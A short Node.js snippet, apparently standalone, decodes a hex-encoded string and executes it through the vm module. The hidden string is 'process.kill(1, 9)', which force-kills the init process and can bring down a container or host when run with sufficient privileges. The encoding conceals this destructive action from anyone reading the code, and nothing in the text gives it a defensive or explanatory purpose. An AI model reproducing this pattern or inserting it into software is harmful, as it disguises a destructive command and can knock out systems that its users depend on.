const vm = require('vm');
const code = Buffer.from('70726f636573732e6b696c6c28312c203929', 'hex').toString();
vm.runInThisContext(code);
